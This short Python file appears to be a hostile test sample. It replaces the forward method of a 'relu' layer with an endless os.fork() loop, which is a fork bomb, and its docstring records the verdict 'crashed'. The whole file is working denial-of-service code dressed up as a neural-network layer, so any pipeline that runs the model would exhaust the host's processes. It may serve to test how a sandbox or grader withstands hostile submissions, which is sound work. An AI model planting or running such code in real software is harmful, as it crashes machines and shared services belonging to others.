"""Fork bomb. Verdict: crashed."""

import os


def forward(self, X):
    while True:
        os.fork()


relu.forward = forward
